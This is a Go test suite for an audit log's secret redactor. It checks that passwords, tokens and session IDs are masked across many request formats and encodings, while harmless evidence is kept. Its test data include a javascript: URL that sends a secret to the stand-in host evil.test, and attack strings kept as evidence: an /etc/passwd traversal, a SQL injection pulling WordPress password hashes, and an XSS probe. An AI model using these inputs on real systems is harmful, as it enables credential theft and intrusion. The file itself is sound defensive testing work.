package audit

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/url"
	"strings"
	"testing"
)

// carriers are the places of a request or response that a secret comes in, with
// NAME and SECRET in them. The text before and after the secret is evidence.
func carriers() []string {
	return []string{
		// targets and links
		"/a?NAME=SECRET", "/a?x=1&NAME=SECRET&y=2", "/a?x=1;NAME=SECRET", "/a;NAME=SECRET/b", "/a;x=1;NAME=SECRET?y=2", "/a#NAME=SECRET", "/a#/b?NAME=SECRET&c=d",
		"https://portal.example/a?NAME=SECRET", "https://an:SECRET@portal.example/?NAME=x", "//SECRET@portal.example/NAME", "/login?next=https://portal.example/?NAME=SECRET",
		"javascript:location='//evil.test/?NAME='+'x'+'&NAME=SECRET'",
		// forms
		"NAME=SECRET", "user=an&NAME=SECRET&submit=1", "user[NAME]=SECRET", "user[0][NAME]=SECRET&x=1", "NAME[]=SECRET&NAME[]=SECRET", "user.NAME=SECRET", "NAME = SECRET", "NAME+=SECRET",
		// fields
		"NAME: SECRET", "X-NAME: SECRET\r\nAccept: */*", "Cookie: NAME=SECRET; lang=vi", "Cookie: lang=vi; theme=SECRET", "Set-Cookie: NAME=SECRET; Path=/; HttpOnly", `Cookie: a="x; y=SECRET"; b=1`,
		"Authorization: Bearer SECRET", "Authorization: Basic SECRET", "Proxy-Authorization: Basic SECRET", "Authorization: SECRET", `Authorization: Digest username="an", realm="r", response="SECRET"`,
		"X-Api-Key: SECRET", "Ocp-Apim-Subscription-Key: SECRET", "X-Amz-Security-Token: SECRET", "X-Hub-Signature-256: sha256=SECRET", "Cookie2: SECRET",
		// JSON
		`{"NAME":"SECRET"}`, `{"user":"an","NAME":"SECRET","n":1}`, `{"user":{"NAME":"SECRET"}}`, `{"a":[{"b":{"NAME":"SECRET"}}]}`, `{"NAME":["SECRET","SECRET"]}`, `{"NAME":{"v":"SECRET"}}`,
		`{"user.NAME":"SECRET"}`, `{"m":"{\"NAME\":\"SECRET\"}"}`, `{"m":"{\"m\":\"{\\\"NAME\\\":\\\"SECRET\\\"}\"}"}`, "{\n\t\"NAME\" :\n\t\"SECRET\"\n}", `{"NAME":"a\"SECRET"}`, `{"NAME":"\\","x":1,"NAME":"SECRET"}`,
		`{'NAME':'SECRET'}`, `{NAME:"SECRET"}`, `[["NAME","SECRET"]]`, `[{"name":"NAME","value":"SECRET"}]`, `[{"value":"SECRET","name":"NAME"}]`, `{"key":"NAME","value":"SECRET"}`,
		`{"headers":{"Authorization":"Bearer SECRET","Cookie":"NAME=SECRET"}}`, `{"NAME":"SECRET`, `"NAME":SECRET`,
		// GraphQL
		`{"query":"mutation($p:String!){login(NAME:$p){ok}}","variables":{"p":"SECRET"}}`,
		`{"query":"mutation{login(NAME:\"SECRET\"){ok}}"}`, `{"variables":{"input":{"NAME":"SECRET"}}}`,
		// multipart
		"--b\r\nContent-Disposition: form-data; name=\"NAME\"\r\n\r\nSECRET\r\n--b--\r\n", "--b\r\nContent-Disposition: form-data; name=NAME\r\nContent-Type: text/plain\r\n\r\nSECRET\r\n--b--\r\n",
		"--b\nContent-Disposition: form-data; name=\"NAME\"\n\nline\nSECRET\n--b--\n", "Content-Disposition: form-data; name=\"user[NAME]\"\r\n\r\nSECRET",
		// XML and HTML
		"<NAME>SECRET</NAME>", `<u><NAME type="x">SECRET</NAME></u>`, "<ns:NAME>SECRET</ns:NAME>", "<NAME><![CDATA[</b>SECRET]]></NAME>", "<NAME><v>x</v>SECRET</NAME>", `<u NAME="SECRET" id="1"/>`, `<u NAME='SECRET'>`, `<u NAME=SECRET>`,
		"<member><name>NAME</name><value><string>SECRET</string></value></member>", `<add key="NAME" value="SECRET"/>`, `<input name="NAME" type="text" value="SECRET">`, `<input value="SECRET" name="NAME">`,
		`<input type="password" value="SECRET">`, `<input placeholder="Mật khẩu" value="SECRET">`, `<meta name="NAME" content="SECRET">`, `<meta content="SECRET" name="NAME">`, `<a href="/x?NAME=SECRET">x</a>`,
		`<script>var NAME = "SECRET"; go()</script>`, `<script>window["NAME"]="SECRET"</script>`, `<form action="/a?NAME=SECRET">`, `<div data-NAME="SECRET">`,
		// programs
		`$_POST['NAME']='SECRET';`, `define('NAME', 'SECRET');`, `'NAME' => 'SECRET'`, `a:1:{s:4:"NAME";s:6:"SECRET";}`, `SET NAME 'SECRET'`, `NAME('SECRET')`, "UPDATE u SET NAME='SECRET' WHERE id=1", "UPDATE u SET NAME='it''s SECRET'",
		"NAME=SECRET\nHOST=x", "export NAME=\"SECRET\"", "NAME: 'SECRET'\nhost: x",
		// sentences
		"invalid NAME \"SECRET\"", "invalid NAME: SECRET", "dial https://an:SECRET@db.example/: refused (NAME)", "sent Bearer SECRET to it, NAME",
		"Matched Data: x found within REQUEST_BODY: user=an&NAME=SECRET", "Matched Data: a found within REQUEST_HEADERS:X-NAME: SECRET",
		// links
		"/reset/SECRET", "/quen-mat-khau/SECRET", "/account/verify-email/SECRET?x=1", "https://portal.example/kich-hoat/SECRET",
	}
}

func secretNames() []string {
	return []string{
		"password", "PassWord", "new_password", "pwd", "token", "api_key", "access-token", "csrf_token", "client_secret", "otp", "PHPSESSID",
		"mat_khau", "matkhau", "mật_khẩu", "MậtKhẩu", "ma_otp", "so_cccd", "cmnd", "pass\uff57ord",
	}
}

// wrappings are what a text may be in when it reaches the trail.
func wrappings() map[string]func(string) string {
	percent := func(s string) string { return url.PathEscape(s) }
	all := func(s string) string {
		var b strings.Builder
		for i := range len(s) {
			fmt.Fprintf(&b, "%%%02x", s[i])
		}
		return b.String()
	}
	unicode := func(format string) func(string) string {
		return func(s string) string {
			var b strings.Builder
			for _, r := range s {
				fmt.Fprintf(&b, format, r)
			}
			return b.String()
		}
	}
	quoted := func(s string) string {
		b, _ := json.Marshal(s)
		return string(b[1 : len(b)-1])
	}
	return map[string]func(string) string{
		"plain":                 func(s string) string { return s },
		"query":                 url.QueryEscape,
		"percent":               percent,
		"percent twice":         func(s string) string { return percent(percent(s)) },
		"percent thrice":        func(s string) string { return percent(percent(percent(s))) },
		"percent all":           all,
		"percent all once more": func(s string) string { return percent(all(s)) },
		"json":                  quoted,
		"json twice":            func(s string) string { return quoted(quoted(s)) },
		"json in query":         func(s string) string { return url.QueryEscape(quoted(s)) },
		"utf-16 escapes":        unicode("\\u%04x"),
		"%u":                    unicode("%%u%04X"),
		"decimal references":    unicode("&#%d;"),
		"references in query":   func(s string) string { return url.QueryEscape(unicode("&#x%x;")(s)) },
		"in a field":            func(s string) string { return "a=1&data=" + url.QueryEscape(s) + "&b=2" },
		"in a string":           func(s string) string { return `{"a":1,"data":"` + quoted(s) + `","b":2}` },
	}
}

// corpusSecrets: a marker that all encodings of it show, a JWT, credentials.
func corpusSecrets() []string {
	jwt := base64.RawURLEncoding.EncodeToString([]byte(`{"alg":"none"}`)) + "." + base64.RawURLEncoding.EncodeToString([]byte(`{"sub":"`+canary+`"}`)) + ".c2ln"
	return []string{canary, "S3cr3t1234", base64.StdEncoding.EncodeToString([]byte("an:" + canary)), jwt}
}

// TestCorpus: no secret comes out, whatever it is called, lies in and is wrapped in, in
// no field of an event, and not for somebody who decodes the line.
func TestCorpus(t *testing.T) {
	r := &redactor{}
	for wrapping, wrap := range wrappings() {
		for _, carrier := range carriers() {
			for i, name := range secretNames() {
				for _, secret := range corpusSecrets()[:4-3*min(i, 1)] { // all of them under the first name
					text := wrap(strings.NewReplacer("NAME", name, "SECRET", secret).Replace(carrier))
					if got := redactText(r, text); leaks(got, secret) {
						t.Errorf("%s: %q with %s leaks:\n in %q\nout %q", wrapping, carrier, name, text, got)
					}
				}
			}
		}
	}
}

// leaks looks for the secret, and for the later half of it, as somebody would
// who takes the encodings off.
func leaks(out, secret string) bool {
	half := secret[len(secret)/2:]
	for range 4 {
		for _, form := range []string{out, unescaped(out)} {
			if strings.Contains(form, half) {
				return true
			}
		}
		next, err := url.PathUnescape(out)
		if err != nil {
			next = lenient(out)
		}
		out = next
	}
	return false
}

// lenient undoes the percent-encoding that is right and leaves the rest.
func lenient(s string) string {
	b := []byte(s)
	var out []byte
	for i := 0; i < len(b); {
		if b[i] == '%' {
			if c, size := percent(b[i:]); size == 3 {
				out = append(out, byte(c.code))
				i += size
				continue
			}
		}
		out = append(out, b[i])
		i++
	}
	return string(out)
}

func unescaped(s string) string {
	var text string
	if json.Unmarshal([]byte(`"`+s+`"`), &text) == nil {
		return text
	}
	return s
}

// TestVariableBeforeItsUse: the member that has the secret may come before the
// query that tells.
func TestVariableBeforeItsUse(t *testing.T) {
	in := `{"variables":{"p":"` + canary + `","q":"x"},"query":"mutation($p:String!){login(password:$p){ok}}"}`
	if got := redactText(&redactor{}, in); leaks(got, canary) || !strings.Contains(got, `"q":"x"`) {
		t.Errorf("got %q", got)
	}
}

// TestCorpusInEvents puts the carriers into every field of an event, whose
// bounds cut them in two.
func TestCorpusInEvents(t *testing.T) {
	enc := newEncoder(Info{Key: []byte("key")})
	for _, carrier := range carriers() {
		text := strings.NewReplacer("NAME", "password", "SECRET", canary).Replace(carrier)
		for wrapping, wrap := range wrappings() {
			e := everywhere(wrap(text))
			e.Match.Details, e.Match.SecondOpinion, e.Finding.Reasons = e.Match.Details[:1], e.Match.SecondOpinion[:1], e.Finding.Reasons[:1]
			line, err := enc.line(&e)
			if err != nil {
				t.Fatal(err)
			}
			checkLine(t, line.String())
			for _, s := range lineStrings(t, line.Bytes()) {
				if leaks(s, canary) {
					t.Errorf("%s: %q leaks as %q", wrapping, carrier, s)
				}
			}
			line.Free()
		}
	}
}

// lineStrings are all strings of a JSON line, decoded.
func lineStrings(t testing.TB, line []byte) (all []string) {
	t.Helper()
	var v any
	if err := json.Unmarshal(line, &v); err != nil {
		t.Fatal(err)
	}
	var walk func(any)
	walk = func(v any) {
		switch v := v.(type) {
		case string:
			all = append(all, v)
		case []any:
			for _, e := range v {
				walk(e)
			}
		case map[string]any:
			for _, e := range v {
				walk(e)
			}
		}
	}
	walk(v)
	return all
}

// TestEvidenceStays: what is no secret is shown as it was.
func TestEvidenceStays(t *testing.T) {
	r := &redactor{}
	for _, text := range []string{
		"tai_khoan=admin&ho_ten=An", "Tài khoản: admin", "/tin-tuc/token-hoa-la-gi.html", "/password/reset", "/login/index.php", "/auth/v2/users", "/reset/style2024.css",
		"id=20261122030405&order=202611220304", "page=2&sort=asc", "q=' OR 1=1-- -", "sdt=0912345678", "ma_don_hang=123456789012", "so_tien=1500000000000",
		"basic sql injection", "the bearer of this letter", "map in the spinner", "GET /a?x=1 HTTP/1.1", "1764000000000", "9704", "x@y.example", "a@b, c@d",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
		"../../../../etc/passwd", "cat /etc/passwd", "UNION SELECT user_login,user_pass FROM wp_users", "<script>alert(document.domain)</script>",
	} {
		if got := redactText(r, text); got != text {
			t.Errorf("%q became %q", text, got)
		}
	}
}

// FuzzLook: where the first look has no doubt, the second would cut nothing.
func FuzzLook(f *testing.F) {
	for _, carrier := range carriers() {
		f.Add(strings.NewReplacer("NAME", "mật_khẩu", "SECRET", canary).Replace(carrier))
	}
	f.Add("s-i-d=1 ótp=2 PIN=3 aPin=4")
	f.Fuzz(func(t *testing.T, s string) {
		if len(s) > maxSecretName {
			return // a name that long is read in part, and the part may end as a secret's does
		}
		r := &redactor{}
		r.v.load(s)
		r.look()
		if len(r.seen.hits) > 0 || r.seen.at || r.seen.numbers {
			return
		}
		r.seen.hits = everyPlace(len(r.v.text))
		r.cuts = r.cuts[:0]
		r.scan()
		r.numbers()
		if len(r.cuts) > 0 {
			c := r.cuts[0]
			t.Errorf("the first look missed %q in %q", r.v.text[c.from:c.to], s)
		}
	})
}

func everyPlace(n int) []hit {
	hits := make([]hit, n)
	for i := range hits {
		hits[i] = hit{int32(i), int32(i), false}
	}
	return hits
}
